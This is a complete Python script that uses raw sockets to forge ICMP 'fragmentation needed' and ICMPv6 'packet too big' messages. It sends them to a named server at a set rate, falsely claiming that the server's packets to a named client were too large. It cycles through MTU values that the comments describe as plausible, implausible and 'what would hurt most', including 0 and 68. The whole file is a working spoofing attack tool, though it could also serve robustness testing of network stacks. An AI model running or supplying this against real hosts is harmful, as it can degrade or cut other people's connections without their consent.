#!/usr/bin/python3
"""Tells a server that its packets to a client were too big: lies, about a flow that there is.

    forge_too_big.py SERVER_ADDRESS SERVER_PORT CLIENT_ADDRESS CLIENT_PORT COUNT PER_SECOND

Sends COUNT ICMP messages "fragmentation needed" (RFC 1191), or ICMPv6 "packet too big" (RFC 4443
3.2), from raw sockets. Each quotes the header of a packet from the server's endpoint to the
client's, as a router would that had dropped one, and claims another MTU.
"""

import ipaddress
import socket
import struct
import sys
import time

ICMP_UNREACHABLE, FRAGMENTATION_NEEDED = 3, 4
ICMPV6_PACKET_TOO_BIG = 2
# What is plausible, what is not, and what would hurt most.
MTUS_V4 = (68, 256, 552, 576, 1000, 1280, 1300, 1399, 1400, 1460, 1492, 0, 65535)
MTUS_V6 = (1280, 1281, 1300, 1399, 1400, 1460, 1492, 1499, 0, 600, 1279, 1 << 31)
QUOTED_SIZE = 1500


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_header(source_port, destination_port, ip_header_size):
    return struct.pack("!HHHH", source_port, destination_port, QUOTED_SIZE - ip_header_size, 0x1234)


def too_big_v4(server, client, mtu):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, QUOTED_SIZE, 0, 0x4000, 60, 17, 0,
                     server[0].packed, client[0].packed)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    body = ip + udp_header(server[1], client[1], 20)
    head = struct.pack("!BBHHH", ICMP_UNREACHABLE, FRAGMENTATION_NEEDED, 0, 0, mtu)
    sum_of_all = struct.pack("!H", checksum(head + body))
    return head[:2] + sum_of_all + head[4:] + body


def too_big_v6(server, client, mtu):
    ip = struct.pack("!IHBB16s16s", 6 << 28, QUOTED_SIZE - 40, 17, 60,
                     server[0].packed, client[0].packed)
    # The kernel fills in the checksum (RFC 3542 3.1).
    return (struct.pack("!BBHI", ICMPV6_PACKET_TOO_BIG, 0, 0, mtu) + ip +
            udp_header(server[1], client[1], 40) + bytes(1180))


def main():
    server = ipaddress.ip_address(sys.argv[1]), int(sys.argv[2])
    client = ipaddress.ip_address(sys.argv[3]), int(sys.argv[4])
    count, per_second = int(sys.argv[5]), int(sys.argv[6])
    if server[0].version == 4:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        lies = [too_big_v4(server, client, mtu) for mtu in MTUS_V4]
    else:
        raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        lies = [too_big_v6(server, client, mtu) for mtu in MTUS_V6]
    begun = time.monotonic()
    for number in range(count):
        if number % 100 == 0:
            time.sleep(max(0.0, begun + number / per_second - time.monotonic()))
        raw.sendto(lies[number % len(lies)], (str(server[0]), 0))
    print(f"sent {count} forgeries in {time.monotonic() - begun:.1f} s")


if __name__ == "__main__":
    main()
